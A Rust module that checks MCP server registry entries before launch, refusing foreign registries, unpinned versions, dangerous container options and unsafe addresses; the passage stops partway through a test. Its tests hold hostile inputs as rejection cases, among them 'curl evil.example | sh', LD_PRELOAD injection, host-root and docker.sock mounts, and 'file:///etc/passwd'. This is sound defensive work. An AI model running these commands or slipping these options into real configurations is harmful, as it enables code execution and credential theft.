//! Plans how to run a registry entry, or says why it cannot be run. An entry names what runs and nothing else: another
//! package, place or program, extra rights and references of ours are refused with a reason. Pure.

use std::{collections::BTreeMap, fmt};

use serde_json::{Map, Value};
use url::Url;

use crate::{
    model::{
        TransportConfig,
        caution::{self, Caution, CautionCode as Code},
        listings::{Consent, Input, ListedWay},
    },
    registry::{
        launch_risks, pinning,
        plan::{self, Choice, Command, Plan, PlanError, Prompt, Way},
        server_json::{Answers, Argument, Input as Described, Named, Package, Remote, ServerDocument},
    },
};

/// Prefix of the answer that accepts something, followed by the server's name.
const ACCEPT: &str = "accept.";
/// Maximum length of a value, in characters.
const VALUE: usize = 10_000;

/// The default registries of each package type.
const PLACES: &[(&str, &[&str])] = &[
    ("npm", &["https://registry.npmjs.org"]),
    ("pypi", &["https://pypi.org", "https://pypi.org/simple"]),
    ("nuget", &["https://api.nuget.org", "https://api.nuget.org/v3/index.json", "https://www.nuget.org"]),
    (
        "oci",
        &[
            "https://docker.io",
            "https://index.docker.io",
            "https://registry-1.docker.io",
            "https://hub.docker.com",
        ],
    ),
];

/// One way to run a server, with the answers given.
#[derive(Debug, Clone, PartialEq)]
pub struct Reviewed {
    /// The plan.
    pub plan: Plan,
    /// The inputs.
    pub inputs: Vec<Input>,
    /// The consents that are missing.
    pub consents: Vec<Consent>,
    /// Remarks.
    pub remarks: Vec<Caution>,
}

/// Why a way is not gone, in clauses without a subject; there is at least one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reasons(pub Vec<Caution>);

impl From<Caution> for Reasons {
    fn from(caution: Caution) -> Self {
        Self(vec![caution])
    }
}

impl From<Code> for Reasons {
    fn from(code: Code) -> Self {
        Self(vec![code.into()])
    }
}

impl From<PlanError> for Reasons {
    fn from(error: PlanError) -> Self {
        match error {
            PlanError::Choice => Code::LacksWay.into(),
            PlanError::Kind(kind) => Code::HasUnknownKind.with([shown(&kind)]).into(),
            PlanError::NoHash => Code::NamesNoDigest.into(),
            PlanError::Transport(kind) => Code::SpeaksOver.with([shown(&kind)]).into(),
        }
    }
}

impl fmt::Display for Reasons {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&caution::joined(&self.0))
    }
}

/// All ways of a description with their ids, hosted ones first.
pub fn ways(document: &ServerDocument) -> Vec<(String, Choice)> {
    let mut count: BTreeMap<String, usize> = BTreeMap::new();
    let mut numbered = |kind: &str| {
        let number = count.entry(kind.to_owned()).or_default();
        *number += 1;
        if *number == 1 { kind.to_owned() } else { format!("{kind}-{number}") }
    };
    let mut all = Vec::new();
    for at in 0..document.remotes.len() {
        all.push((numbered("remote"), Choice::Remote(at)));
    }
    for (at, package) in document.packages.iter().enumerate() {
        let known = ["npm", "pypi", "oci", "mcpb", "nuget", "cargo", "go"];
        let kind = known.iter().find(|known| **known == package.registry_type).copied().unwrap_or("other");
        all.push((numbered(kind), Choice::Package(at)));
    }
    all
}

/// All ways as they are listed, before any answers.
pub fn listed(document: &ServerDocument) -> Vec<ListedWay> {
    let way = |(id, choice): (String, Choice)| {
        let reviewed = review(document, choice, &Answers::new(), None);
        let (needs, refused) = match &reviewed {
            Ok(reviewed) => (reviewed.plan.missing.clone(), None),
            Err(why) => (vec![], Some(why.to_string())),
        };
        let why = reviewed.err().map(|why| why.0).unwrap_or_default();
        ListedWay { runs: runs_of(document, choice), id, needs, refused, why }
    };
    ways(document).into_iter().map(way).collect()
}

fn runs_of(document: &ServerDocument, choice: Choice) -> String {
    let text = match choice {
        Choice::Remote(at) => document.remotes.get(at).map(|remote| remote.url.clone()),
        Choice::Package(at) => document.packages.get(at).map(|package| {
            let version = package.version.as_deref().map(|version| format!("@{version}")).unwrap_or_default();
            let is_whole = matches!(package.registry_type.as_str(), "oci" | "mcpb");
            format!(
                "{} {}{}",
                package.registry_type,
                package.identifier,
                if is_whole { "" } else { &version }
            )
        }),
    };
    super::judge::plain(&text.unwrap_or_default()).0.chars().take(300).collect()
}

/// Checks one way. `engine` is the installed container engine.
///
/// # Errors
/// Why it is not offered, as a sentence without a subject.
pub fn review(
    document: &ServerDocument,
    choice: Choice,
    answers: &Answers,
    engine: Option<&str>,
) -> Result<Reviewed, Reasons> {
    let document = without_odd_defaults(document);
    let (mut consents, remarks) = match choice {
        Choice::Package(at) => before_package(document.packages.get(at).ok_or(Code::LacksWay)?)?,
        Choice::Remote(at) => before_remote(document.remotes.get(at).ok_or(Code::LacksWay)?)?,
    };
    let prompts = plan::plan(&document, choice, &Answers::new())?.prompts;
    // The inputs of a bundle are known only after its download.
    let is_bundle = matches!(choice, Choice::Package(at) if document.packages[at].registry_type == "mcpb");
    let accepted = |(id, _): &(&String, &Value)| !is_bundle || id.starts_with(ACCEPT);
    let answers = answers.iter().filter(accepted).map(|(id, value)| (id.clone(), value.clone())).collect();
    let answers = by_id(&prompts, &answers)?;
    prompts.iter().try_for_each(|prompt| check_answer(prompt, answers.get(&prompt.id)))?;
    if let Choice::Remote(at) = choice {
        check_address_parts(&document.remotes[at], &answers)?;
    }
    let mut plan = plan::plan(&document, choice, &answers)?;
    if let (Way::Stdio(command), Some(engine)) = (&mut plan.way, engine)
        && command.command == "docker"
    {
        engine.clone_into(&mut command.command);
    }
    match (&plan.way, choice) {
        (Way::Stdio(command), Choice::Package(at)) => {
            check_command(command, &document.packages[at], &answers)?
        }
        (Way::Http { spawn: Some(_), .. }, _) => return Err(Code::Listens.into()),
        (Way::Http { url, headers, .. }, Choice::Remote(at)) => {
            let is_whole = plan.missing.is_empty();
            consents.extend(check_address(url, headers, &document.remotes[at], is_whole)?);
        }
        (Way::Bundle { .. }, _) => {}
        (Way::Stdio(_), Choice::Remote(_)) | (Way::Http { .. }, Choice::Package(_)) => {
            return Err(Code::HasTwoWays.into());
        }
    }
    consents.retain(|consent| answers.get(&consent.id).and_then(Value::as_str) != Some("yes"));
    // All of them are reported here, more precisely.
    plan.warnings.clear();
    let inputs = plan.prompts.iter().map(input).collect();
    Ok(Reviewed { plan, inputs, consents, remarks })
}

fn input(prompt: &Prompt) -> Input {
    let plain = |text: &Option<String>| text.as_deref().map(|text| super::judge::plain(text).0);
    let cut = |text: String| text.chars().take(300).collect::<String>();
    Input {
        id: prompt.id.clone(),
        description: plain(&prompt.description).map(cut).unwrap_or_default(),
        required: prompt.required,
        secret: prompt.secret,
        format: prompt.format.clone().unwrap_or_else(|| "string".to_owned()),
        default: plain(&prompt.default),
        placeholder: plain(&prompt.placeholder).map(cut),
        choices: prompt.choices.clone(),
        repeated: prompt.repeated,
    }
}

/// Drops defaults that are public credentials or not among the choices.
fn without_odd_defaults(document: &ServerDocument) -> ServerDocument {
    fn clear(input: &mut Described) {
        let is_chosen = |value: &String| input.choices.is_empty() || input.choices.contains(value);
        if input.is_secret || !input.default.as_ref().is_none_or(is_chosen) {
            input.default = None;
        }
        input.variables.0.iter_mut().for_each(|(_, input)| clear(input));
    }
    let named = |list: &mut Vec<Named>| list.iter_mut().for_each(|one| clear(&mut one.input));
    let arguments = |list: &mut Vec<Argument>| list.iter_mut().for_each(|one| clear(&mut one.input));
    let mut document = document.clone();
    for package in &mut document.packages {
        arguments(&mut package.runtime_arguments);
        arguments(&mut package.package_arguments);
        named(&mut package.environment_variables);
        named(&mut package.transport.headers);
    }
    for remote in &mut document.remotes {
        remote.variables.0.iter_mut().for_each(|(_, input)| clear(input));
        named(&mut remote.headers);
    }
    document
}

type Before = (Vec<Consent>, Vec<Caution>);

/// Checks a package's own fields before inputs are filled in.
fn before_package(package: &Package) -> Result<Before, Reasons> {
    let kind = package.registry_type.as_str();
    let (name, version) = (package.identifier.as_str(), package.version.as_deref());
    let mut remarks = Vec::new();
    match kind {
        "npm" | "pypi" | "nuget" => {
            check_version(version)?;
            if !is_package(kind, name) {
                return Err(Code::NamesNoPackage.with([kind, &shown(name)]).into());
            }
        }
        "oci" => check_image(name, version)?,
        "mcpb" => {
            check_bundle(name, package.file_sha256.as_deref())?;
            return Ok((vec![], remarks));
        }
        "cargo" => {
            let version = version.map(|version| format!(" --version {}", shown(version))).unwrap_or_default();
            return Err(Code::BuildsWith.with([format!("cargo install {}{version}", shown(name))]).into());
        }
        "go" => {
            let version = version.unwrap_or("latest");
            let command = format!("go install {}@{}", shown(name), shown(version));
            return Err(Code::BuildsWith.with([command]).into());
        }
        other => return Err(Code::HasUnknownKind.with([shown(other)]).into()),
    }
    check_place(kind, name, package.registry_base_url.as_deref())?;
    if package.transport.kind.as_deref().is_some_and(|kind| kind != "stdio") {
        return Err(Code::Listens.into());
    }
    let known: &[&str] = match kind {
        "npm" => &["npx", "npm"],
        "pypi" => &["uvx", "uv"],
        "nuget" => &["dnx", "dotnet"],
        _ => &["docker", "podman"],
    };
    if let Some(hint) =
        package.runtime_hint.as_deref().filter(|hint| !known.contains(hint) && !hint.is_empty())
    {
        remarks.push(Code::OtherLauncher.with([&shown(hint), known[0]]));
    }
    Ok((vec![], remarks))
}

fn check_version(version: Option<&str>) -> Result<(), Reasons> {
    let good = |version: &&str| {
        pinning::is_exact(version)
            && version.len() <= 100
            && version.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".+-_!".contains(&byte))
    };
    match version {
        Some(version) if good(&version) => Ok(()),
        Some(version) => Err(Code::NamesRange.with([shown(version)]).into()),
        None => Err(Code::NamesNoVersion.into()),
    }
}

/// A plain package name: no option, address, path, alias or range.
fn is_package(kind: &str, name: &str) -> bool {
    let part = |part: &str, more: &[u8]| {
        let all = part.bytes().all(|byte| byte.is_ascii_alphanumeric() || more.contains(&byte));
        all && part
            .bytes()
            .next()
            .is_some_and(|first| first.is_ascii_alphanumeric() || first == b'_' && kind == "npm")
    };
    if name.len() > 214 {
        return false;
    }
    match (kind, name.strip_prefix('@')) {
        ("npm", Some(scoped)) => {
            scoped.split_once('/').is_some_and(|(scope, name)| part(scope, b"-._~") && part(name, b"-._~"))
        }
        ("npm", None) => part(name, b"-._~"),
        _ => part(name, b"-._"),
    }
}

fn check_image(name: &str, version: Option<&str>) -> Result<(), Reasons> {
    let letters = |text: &str, more: &[u8]| {
        text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || more.contains(&byte))
    };
    let (rest, digest) = name.split_once('@').map_or((name, None), |(rest, digest)| (rest, Some(digest)));
    let tag_at = rest.rfind(':').filter(|at| !rest[*at..].contains('/'));
    let (path, tag) = tag_at.map_or((rest, None), |at| (&rest[..at], Some(&rest[at + 1..])));
    let good_tag = |tag: &str| {
        !tag.is_empty()
            && tag.len() <= 128
            && tag.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(&byte))
    };
    let good_digest = |digest: &str| {
        digest
            .strip_prefix("sha256:")
            .is_some_and(|hex| hex.len() == 64 && hex.bytes().all(|byte| byte.is_ascii_hexdigit()))
    };
    let good = path.bytes().next().is_some_and(|first| first.is_ascii_alphanumeric())
        && path.len() <= 255
        && letters(path, b"-._/:")
        && tag.or(version).is_none_or(good_tag)
        && digest.is_none_or(good_digest);
    if !good {
        return Err(Code::NamesNoImage.with([shown(name)]).into());
    }
    let host = path.split('/').next().filter(|first| path.contains('/') && first.contains(['.', ':']));
    let (host, known) =
        (host.unwrap_or("docker.io"), ["docker.io", "ghcr.io", "quay.io", "mcr.microsoft.com"]);
    if !known.contains(&host) && !host.ends_with(".pkg.dev") && !host.ends_with(".azurecr.io") {
        return Err(Code::TakesImageFrom.with([host]).into());
    }
    Ok(())
}

fn check_bundle(address: &str, digest: Option<&str>) -> Result<(), Reasons> {
    let hex = digest.ok_or(Code::NamesNoDigest)?;
    if hex.len() != 64 || !hex.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return Err(Code::NamesBadDigest.into());
    }
    let url = Url::parse(address).map_err(|_| Code::NamesNoBundle)?;
    if url.scheme() != "https" {
        return Err(Code::FetchesPlain.into());
    }
    if !url.username().is_empty() || url.password().is_some() || launch_risks::leads_inside(address).is_some()
    {
        return Err(Code::FetchesInside.into());
    }
    Ok(())
}

fn check_place(kind: &str, name: &str, base: Option<&str>) -> Result<(), Reasons> {
    let Some(base) = base.map(|base| base.trim_end_matches('/')).filter(|base| !base.is_empty()) else {
        return Ok(());
    };
    let usual = PLACES.iter().find(|(known, _)| *known == kind).map_or(&[][..], |(_, places)| places);
    let of_image = kind == "oci"
        && base.strip_prefix("https://").is_some_and(|host| name.starts_with(&format!("{host}/")));
    match usual.contains(&base) || of_image {
        true => Ok(()),
        false => Err(Code::TakesPackageFrom.with([shown(base)]).into()),
    }
}

fn before_remote(remote: &Remote) -> Result<Before, Reasons> {
    if !matches!(remote.kind.as_str(), "streamable-http" | "streamable_http" | "http" | "streamable" | "sse")
    {
        return Err(Code::SpeaksOver.with([shown(&remote.kind)]).into());
    }
    if remote.url.contains(char::is_whitespace) || remote.url.contains(['\\', '\0']) {
        return Err(Code::NamesBadAddress.into());
    }
    Ok((vec![], vec![]))
}

/// Resolves answers by id, or by the last part of an id if it is unique.
fn by_id(prompts: &[Prompt], answers: &Answers) -> Result<Answers, Reasons> {
    let mut by_id = Answers::new();
    for (given, value) in answers {
        if given.starts_with(ACCEPT) {
            by_id.insert(given.clone(), value.clone());
            continue;
        }
        let is_meant = |id: &str| {
            let last = id.rsplit('.').next().unwrap_or(id);
            id == given || last == given || last.trim_start_matches('-') == given
        };
        let exact = prompts.iter().filter(|prompt| prompt.id == *given);
        let mut meant: Vec<&str> = exact.map(|prompt| prompt.id.as_str()).collect();
        if meant.is_empty() {
            meant = prompts.iter().map(|prompt| prompt.id.as_str()).filter(|id| is_meant(id)).collect();
        }
        let all = || prompts.iter().map(|prompt| prompt.id.as_str()).collect::<Vec<_>>().join(", ");
        match meant.as_slice() {
            [] if prompts.is_empty() => {
                return Err(Code::TakesNoInput.with([shown(given)]).into());
            }
            [] => return Err(Code::HasNoInput.with([shown(given), all()]).into()),
            // One name is one thing, wherever it is put.
            several => by_id.extend(several.iter().map(|id| ((*id).to_owned(), value.clone()))),
        }
    }
    Ok(by_id)
}

fn check_answer(prompt: &Prompt, answer: Option<&Value>) -> Result<(), Reasons> {
    let values: Vec<String> = match answer {
        None | Some(Value::Null) => return Ok(()),
        Some(Value::Array(several)) if prompt.repeated => several.iter().map(text_of).collect(),
        Some(Value::Array(_)) => return Err(Code::TakesOneValue.with([&prompt.id]).into()),
        Some(one) => vec![text_of(one)],
    };
    for value in values.iter().filter(|value| !value.is_empty()) {
        let wrong = |code: Code| Err(code.with([&prompt.id]).into());
        if value.contains('\0') || value.chars().count() > VALUE {
            return wrong(Code::NeedsPassable);
        }
        if !prompt.choices.is_empty() && !prompt.choices.contains(value) {
            return Err(Code::NeedsChoice.with([&prompt.id, &prompt.choices.join(", ")]).into());
        }
        match prompt.format.as_deref() {
            Some("number") if value.parse::<f64>().is_err() => return wrong(Code::NeedsNumber),
            Some("boolean") if !matches!(value.as_str(), "true" | "false") => {
                return wrong(Code::NeedsBoolean);
            }
            Some("filepath" | "directory") if !is_whole_path(value) => return wrong(Code::NeedsPath),
            _ => {}
        }
    }
    Ok(())
}

fn is_whole_path(value: &str) -> bool {
    let windows = value.as_bytes().get(1) == Some(&b':') || value.starts_with("\\\\");
    (value.starts_with('/') || windows) && !value.contains(char::is_control)
}

fn text_of(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), ToOwned::to_owned)
}

/// Values in an address must not leave their place: no other host, no parent path, nothing cut off.
fn check_address_parts(remote: &Remote, answers: &Answers) -> Result<(), Reasons> {
    let url = &remote.url;
    let begin = url.find("://").map(|at| at + 3);
    let end = begin.map(|begin| url[begin..].find(['/', '?', '#']).map_or(url.len(), |at| begin + at));
    for (name, _) in &remote.variables.0 {
        let Some(at) = url.find(&format!("{{{name}}}")) else { continue };
        let Some(value) = answers.get(&format!("url.{name}")).map(text_of).filter(|value| !value.is_empty())
        else {
            continue;
        };
        // The user is responsible for an address that is entirely theirs.
        let Some((begin, end)) = begin.zip(end).filter(|(begin, _)| at >= *begin) else { continue };
        let plain =
            |more: &[u8]| value.bytes().all(|byte| byte.is_ascii_alphanumeric() || more.contains(&byte));
        let is_host = at < end && at >= begin;
        let good = match is_host {
            true => plain(b"-") && !value.starts_with('-') && !value.ends_with('-') && value.len() <= 63,
            false => plain(b"-._~") && value.bytes().any(|byte| byte != b'.'),
        };
        if !good {
            let code = if is_host { Code::NeedsHostPart } else { Code::NeedsPathPart };
            return Err(code.with([format!("url.{name}")]).into());
        }
    }
    Ok(())
}

/// Something that needs the user's consent, identified by this name.
pub fn consent(name: &str, caution: Caution) -> Consent {
    Consent { id: format!("{ACCEPT}{name}"), says: caution.text.clone(), why: Some(caution) }
}

/// Checks the resulting address.
fn check_address(
    url: &str,
    headers: &Map<String, Value>,
    remote: &Remote,
    is_whole: bool,
) -> Result<Vec<Consent>, Reasons> {
    // Missing inputs are empty here; the rest of the address can be checked all the same.
    let parsed =
        Url::parse(&url.replace(['{', '}'], "")).map_err(|_| Code::NamesNoAddress.with([shown(url)]))?;
    if !matches!(parsed.scheme(), "http" | "https") {
        return Err(Code::NamesOtherAddress.with([shown(url)]).into());
    }
    if !parsed.username().is_empty() || parsed.password().is_some() {
        return Err(Code::HasCredentials.into());
    }
    let host = url.split(['/', '?', '#']).nth(2).unwrap_or_default();
    if host.is_empty() || !host.is_ascii() || parsed.host_str().is_none_or(str::is_empty) {
        return Err(Code::NamesNoHost.with([shown(url)]).into());
    }
    let explained = |name: &str| remote.variables.0.iter().any(|(known, _)| known == name);
    if let Some(unknown) = braces(&remote.url).find(|name| !explained(name)) {
        return Err(Code::HasUnexplained.with([format!("{{{}}}", shown(unknown))]).into());
    }
    let is_bad = |name: &str| {
        name.is_empty()
            || !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte))
    };
    if let Some(bad) = remote.headers.iter().find(|header| is_bad(&header.name)) {
        return Err(Code::HasBadHeader.with([shown(&bad.name)]).into());
    }
    // Headers without a value count too.
    let all = remote.headers.iter().map(|header| (header.name.clone(), Value::from("")));
    let all: Map<String, Value> = all.chain(headers.clone()).collect();
    let inside = launch_risks::leads_inside(url);
    let risks = launch_risks::of_address(url, &all);
    if let Some(risk) = risks.iter().find(|risk| Some(*risk) != inside.as_ref()) {
        return Err(risk.clone().into());
    }
    let mut consents = Vec::new();
    if let Some(inside) = inside.filter(|_| is_whole) {
        consents.push(consent("inside", Code::AddressInside.with(inside.parts)));
    } else if parsed.scheme() == "http" {
        consents.push(consent("unencrypted", Code::AddressPlain.into()));
    }
    Ok(consents)
}

/// Names in braces that are not inputs.
fn braces(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices('{').filter_map(move |(at, _)| {
        let name = text[at + 1..].split('}').next().filter(|name| at + 1 + name.len() < text.len())?;
        (!text[..at].ends_with('$')).then_some(name)
    })
}

/// Checks the resulting command line: exactly the named package, run by its launcher, and nothing else.
fn check_command(command: &Command, package: &Package, answers: &Answers) -> Result<(), Reasons> {
    let kind = package.registry_type.as_str();
    let odd_name = |name: &&String| {
        let first = name.bytes().next().unwrap_or(b'0');
        first.is_ascii_digit() || !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    };
    if let Some(name) = command.env.keys().find(odd_name) {
        return Err(Code::SetsBadVariable.with([shown(name)]).into());
    }
    let texts = command.args.iter().map(String::as_str).chain(command.env.values().filter_map(Value::as_str));
    if texts.clone().any(|text| text.contains('\0')) {
        return Err(Code::HasUnpassable.into());
    }
    let chosen: Vec<String> = answers.values().flat_map(given).collect();
    let risks = launch_risks::of_program(&command.command, &command.args, &command.env, &chosen);
    if !risks.is_empty() {
        return Err(Reasons(risks));
    }
    let at = package_at(&command.args, package).ok_or(Code::RunsAnother)?;
    let before = &command.args[..at];
    check_runtime(kind, before, &command.env)?;
    let transport = TransportConfig::Stdio {
        command: command.command.clone(),
        args: command.args.clone(),
        env: BTreeMap::new(),
        cwd: None,
    };
    let runs = pinning::packages(&transport);
    let texts: Vec<&str> = runs.iter().map(|package| package.text.as_str()).collect();
    if matches!(kind, "npm" | "pypi") && texts != [command.args[at].as_str()] {
        return Err(Code::RunsAnother.into());
    }
    Ok(())
}

fn given(value: &Value) -> Vec<String> {
    match value {
        Value::Array(several) => several.iter().map(text_of).collect(),
        Value::Null => vec![],
        one => {
            // A path may be part of a value: `type=bind,src=FOLDER,dst=/data`.
            vec![text_of(one)]
        }
    }
}

/// The position of the package on its command line.
pub fn package_at(args: &[String], package: &Package) -> Option<usize> {
    let is_it = |word: &String| {
        word.strip_prefix(package.identifier.as_str())
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(['@', ':']) && !rest[1..].contains('/'))
    };
    args.iter().position(is_it)
}

/// Checks the arguments before the package. Most options would change what runs, from where, or with which
/// permissions.
fn check_runtime(kind: &str, words: &[String], env: &Map<String, Value>) -> Result<(), Reasons> {
    let (alone, with_value): (&[&str], &[&str]) = match kind {
        "npm" => (&["-y", "--yes", "-q", "--quiet", "--silent", "--prefer-offline"], &[]),
        "pypi" => (&["-q", "--quiet", "--no-progress", "--isolated"], &["--python"]),
        "nuget" => (&["-y", "--yes"], &[]),
        _ => (
            &["run", "-i", "--interactive", "--rm", "--init", "--read-only", "-q", "--quiet"],
            &[
                "-e",
                "--env",
                "--mount",
                "-v",
                "--volume",
                "--memory",
                "-m",
                "--cpus",
                "--pids-limit",
                "--cap-drop",
                "--network",
                "--net",
                "--platform",
                "-w",
                "--workdir",
                "-u",
                "--user",
                "--tmpfs",
                "--name",
                "--label",
                "--shm-size",
                "-p",
                "--publish",
                "--add-host",
            ],
        ),
    };
    let mut words = words.iter();
    while let Some(word) = words.next() {
        let (option, joined) =
            word.split_once('=').map_or((word.as_str(), None), |(option, value)| (option, Some(value)));
        if alone.contains(&word.as_str()) {
            continue;
        }
        if !option.starts_with('-') || !with_value.contains(&option) {
            return Err(Code::TellsUnknown.with([shown(word)]).into());
        }
        let value = joined.or_else(|| words.next().map(String::as_str)).unwrap_or_default();
        let own = matches!(option, "-e" | "--env") && !value.contains('=') && !env.contains_key(value);
        let opens = matches!(option, "-p" | "--publish") && !value.starts_with("127.0.0.1:");
        let python = option == "--python" && !value.starts_with(|c: char| c.is_ascii_digit());
        if own || opens || python || value.is_empty() {
            return Err(Code::TellsHarmful.with([format!("{option} {}", shown(value))]).into());
        }
    }
    Ok(())
}

fn shown(text: &str) -> String {
    let (text, _) = super::judge::plain(text);
    let more = if text.chars().count() > 120 { "…" } else { "" };
    text.chars().take(120).collect::<String>() + more
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn document(value: Value) -> ServerDocument {
        let mut whole = json!({ "name": "io.github.a/b", "version": "1.0.0", "description": "d" });
        for (key, value) in value.as_object().unwrap() {
            whole[key] = value.clone();
        }
        ServerDocument::read(&whole).unwrap()
    }

    fn npm(change: Value) -> Value {
        let mut package = json!({ "registryType": "npm", "identifier": "good-mcp", "version": "1.0.0" });
        for (key, value) in change.as_object().unwrap() {
            package[key] = value.clone();
        }
        package
    }

    fn of_package(package: Value, answers: Value) -> Result<Reviewed, Reasons> {
        let answers: Answers = serde_json::from_value(answers).unwrap();
        review(&document(json!({ "packages": [package] })), Choice::Package(0), &answers, None)
    }

    fn of_remote(remote: Value, answers: Value) -> Result<Reviewed, Reasons> {
        let answers: Answers = serde_json::from_value(answers).unwrap();
        review(&document(json!({ "remotes": [remote] })), Choice::Remote(0), &answers, None)
    }

    fn line(reviewed: &Reviewed) -> String {
        match &reviewed.plan.way {
            Way::Stdio(command) => format!("{} {}", command.command, command.args.join(" ")),
            Way::Http { url, .. } | Way::Bundle { url, .. } => url.clone(),
        }
    }

    #[test]
    fn common_listings_become_a_command_line_or_an_address() {
        let named = |name: &str, value: &str| json!({ "type": "named", "name": name, "value": value });
        let digest = format!("ghcr.io/a/b@sha256:{}", "ab".repeat(32));
        for (package, expected) in [
            (npm(json!({})), "npx -y good-mcp@1.0.0".to_owned()),
            (
                npm(json!({ "identifier": "@scope/mcp", "registryBaseUrl": "https://registry.npmjs.org/" })),
                "npx -y @scope/mcp@1.0.0".into(),
            ),
            (
                npm(
                    json!({ "runtimeArguments": [named("--yes", "")], "packageArguments": [named("--package", "x")] }),
                ),
                "npx -y --yes good-mcp@1.0.0 --package x".into(),
            ),
            (
                json!({ "registryType": "pypi", "identifier": "good-mcp", "version": "1.0", "runtimeArguments": [named("--python", "3.12")] }),
                "uvx --python 3.12 good-mcp@1.0".into(),
            ),
            (
                json!({ "registryType": "nuget", "identifier": "Good.Mcp", "version": "1.0.0" }),
                "dnx Good.Mcp@1.0.0 --yes".into(),
            ),
            (json!({ "registryType": "oci", "identifier": digest }), format!("docker run -i --rm {digest}")),
            (
                json!({ "registryType": "oci", "identifier": "docker.io/a/b:1.0", "runtimeArguments": [named("--memory", "512m"), named("--network", "none")] }),
                "docker run -i --rm --memory 512m --network none docker.io/a/b:1.0".into(),
            ),
        ] {
            let reviewed = of_package(package.clone(), json!({}));
            assert_eq!(reviewed.as_ref().map(line), Ok(expected), "{package}");
            assert!(reviewed.unwrap().consents.is_empty());
        }
        let remote =
            of_remote(json!({ "type": "streamable-http", "url": "https://mcp.example.com/mcp" }), json!({}));
        assert_eq!(
            (line(remote.as_ref().unwrap()).as_str(), remote.unwrap().consents.len()),
            ("https://mcp.example.com/mcp", 0)
        );
    }

    #[test]
    fn a_description_runs_only_the_program_it_names() {
        let named = |name: &str, value: &str| json!({ "type": "named", "name": name, "value": value });
        let word = |value: &str| json!({ "type": "positional", "value": value });
        let npm_with = |argument: Value| npm(json!({ "runtimeArguments": [argument] }));
        let pypi = |change: Value| {
            let mut package = npm(change);
            package["registryType"] = json!("pypi");
            package
        };
        let image = |arguments: Value| json!({ "registryType": "oci", "identifier": "docker.io/a/b:1", "runtimeArguments": arguments });
        let env = |name: &str| npm(json!({ "environmentVariables": [{ "name": name, "value": "x" }] }));
        for package in [
            npm_with(named("--package", "evil")),
            npm_with(named("--package=evil", "")),
            npm_with(named("-p", "evil")),
            npm_with(named("--registry", "https://evil.example")),
            npm_with(word("evil-mcp")),
            npm_with(word("evil-mcp@1.0.0")),
            npm_with(named("--node-options", "--require=/x")),
            npm_with(named("-c", "curl evil.example | sh")),
            npm_with(named("--call", "id")),
            npm_with(word("--")),
            npm_with(named("--userconfig", "/tmp/x")),
            pypi(json!({ "runtimeArguments": [named("--from", "git+https://evil.example/x")] })),
            pypi(json!({ "runtimeArguments": [named("--with", "evil")] })),
            pypi(json!({ "runtimeArguments": [named("--python", "/tmp/evil")] })),
            pypi(json!({ "runtimeArguments": [word("evil")] })),
            pypi(json!({ "runtimeArguments": [named("--index-url", "https://evil.example")] })),
            pypi(json!({ "identifier": "git+https://evil.example/x" })),
            npm(json!({ "version": "latest" })),
            npm(json!({ "version": "^1.0.0" })),
            npm(json!({ "version": "1.x" })),
            npm(json!({ "version": "1.0.0 --registry=https://evil.example" })),
            npm(json!({ "version": null })),
            npm(json!({ "version": "1.0.0 || 2.0.0" })),
            npm(json!({ "identifier": "--registry=https://evil.example" })),
            npm(json!({ "identifier": "https://evil.example/x.tgz" })),
            npm(json!({ "identifier": "../evil" })),
            npm(json!({ "identifier": "good-mcp@npm:evil" })),
            npm(json!({ "identifier": "good-mcp evil" })),
            npm(json!({ "registryBaseUrl": "https://packages.evil.example" })),
            npm(json!({ "registryBaseUrl": "https://registry.npmjs.org.evil.example" })),
            npm(json!({ "transport": { "type": "streamable-http", "url": "http://127.0.0.1:3000/mcp" } })),
            env("PATH"),
            env("LD_PRELOAD"),
            env("NODE_OPTIONS"),
            env("DYLD_INSERT_LIBRARIES"),
            env("npm_config_registry"),
            env("UV_INDEX_URL"),
            env("PIP_INDEX_URL"),
            env("PYTHONPATH"),
            env("A=B"),
            env(""),
            env("-e"),
            env("A\nB"),
            image(json!([named("-v", "/:/host")])),
            image(json!([named("--privileged", "")])),
            image(json!([named("--network", "host")])),
            image(json!([named("-v", "/var/run/docker.sock:/var/run/docker.sock")])),
            image(json!([named("--entrypoint", "/bin/sh")])),
            image(json!([named("--cap-add", "ALL")])),
            image(json!([named("--pid", "host")])),
            image(json!([named("-e", "GITHUB_TOKEN")])),
            image(json!([named("--env-file", "/home/x/.env")])),
            image(json!([named("-p", "0.0.0.0:80:80")])),
            image(json!([word("evil/image")])),
            image(json!([named("--mount", "type=bind,src=/etc,dst=/x")])),
            json!({ "registryType": "oci", "identifier": "evil.example/a/b:1" }),
            json!({ "registryType": "oci", "identifier": "-v" }),
            json!({ "registryType": "oci", "identifier": "docker.io/a/b@sha256:ab" }),
            json!({ "registryType": "mcpb", "identifier": "https://github.com/a/b/x.mcpb" }),
            json!({ "registryType": "mcpb", "identifier": "http://github.com/a/b/x.mcpb", "fileSha256": "0".repeat(64) }),
            json!({ "registryType": "mcpb", "identifier": "https://127.0.0.1/x.mcpb", "fileSha256": "0".repeat(64) }),
            json!({ "registryType": "mcpb", "identifier": "https://github.com/a/b/x.mcpb", "fileSha256": "zz" }),
            json!({ "registryType": "cargo", "identifier": "x", "version": "1.0.0" }),
            json!({ "registryType": "go", "identifier": "github.com/a/b", "version": "v1.0.0" }),
            json!({ "registryType": "deb", "identifier": "x", "version": "1.0.0" }),
        ] {
            let reviewed = of_package(package.clone(), json!({}));
            assert!(reviewed.is_err(), "{package}: {}", line(&reviewed.unwrap()));
        }
    }

    #[test]
    fn an_address_is_validated_and_an_internal_one_needs_approval() {
        let remote = |url: &str| json!({ "type": "streamable-http", "url": url });
        for url in [
            "file:///etc/passwd",
            "https://user:pass@evil.example/mcp",
            "https://user@evil.example/mcp",
            "javascript:alert(1)",
            "https:///mcp",
            "https://evil.example/{what}/mcp",
            "https://g\u{456}thub.example/mcp",
